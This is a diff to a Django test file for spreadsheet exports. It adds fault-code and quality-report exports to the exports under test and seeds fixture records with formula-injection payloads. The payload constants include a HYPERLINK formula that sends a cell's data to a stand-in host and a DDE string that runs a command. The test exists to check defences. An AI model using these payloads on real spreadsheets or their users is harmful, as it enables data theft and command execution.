@@ -26,6 +26,8 @@ from tests.customers.factories import CustomerFactory, UnitFactory
 from tests.parts.factories import PartFactory, SupplierFactory, WarehouseFactory
 from tests.reports.factories import local, survey
 from tests.tickets.factories import TicketFactory
+from tickets.models import FaultCode
+from tickets.resources import FaultCodeResource
 
 HYPERLINK = '=HYPERLINK("http://x/?d="&A2,"点击")'
 AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -42,6 +44,7 @@ class Export:
     kwargs: dict[str, str] = field(default_factory=dict)  # "warehouse" → the poisoned world's warehouse
     query: dict[str, str] = field(default_factory=dict)
     admin_form: bool = False  # django-import-export's admin: POST the format and the columns
+    resource: type = PartResource  # the admin form's resource (its columns are posted)
     other_formats: tuple[str, ...] = ()  # what the URL also serves that is no spreadsheet
 
 
@@ -49,11 +52,13 @@ EXPORTS: dict[str, Export] = {
     "parts:catalogue_export": Export(("csv", "xlsx")),
     "parts:counts_export": Export(("csv", "xlsx"), kwargs={"pk": "warehouse"}),
     "reports:monthly_export": Export(("csv", "xlsx"), query={"month": "2026-10"}, other_formats=("pdf",)),
+    "reports:quality_export": Export(("xlsx",), query={"month": "2026-10"}, other_formats=("pdf",)),
     "reports:call_register_export": Export(
         ("csv", "xlsx"), query={"date_from": "2026-10-01", "date_to": "2026-10-31"}
     ),
     "reports:ticket_export": Export(("csv", "xlsx")),
     "admin:parts_part_export": Export(("csv", "xlsx"), admin_form=True),
+    "admin:tickets_faultcode_export": Export(("csv", "xlsx"), admin_form=True, resource=FaultCodeResource),
 }
 
 
@@ -101,13 +106,17 @@ def poisoned(db):
         completed_at=local(2026, 10, 10, 15),
     )
     survey(ticket, (1, 1, 1, 1), answered_at=local(2026, 10, 11, 10), comment=HYPERLINK)
+    ticket.fault_code = FaultCode.objects.create(
+        product_model=ticket.unit.product_model, code=MINUS, symptom=HYPERLINK, likely_cause=AT_SUM
+    )
+    ticket.save(update_fields=["fault_code"])
     return {"user": boss, "warehouse": warehouse}
 
 
 def download(client, world, name: str, export: Export, fmt: str) -> bytes:
     if export.admin_form:
         resource = SelectableFieldsExportForm.create_boolean_field_name
-        columns = {resource(PartResource, column): "on" for column in PartResource().get_export_order()}
+        columns = {resource(export.resource, column): "on" for column in export.resource().get_export_order()}
         response = client.post(
             reverse(name), {"format": ["csv", "xlsx"].index(fmt), "resource": 0, **columns}
         )
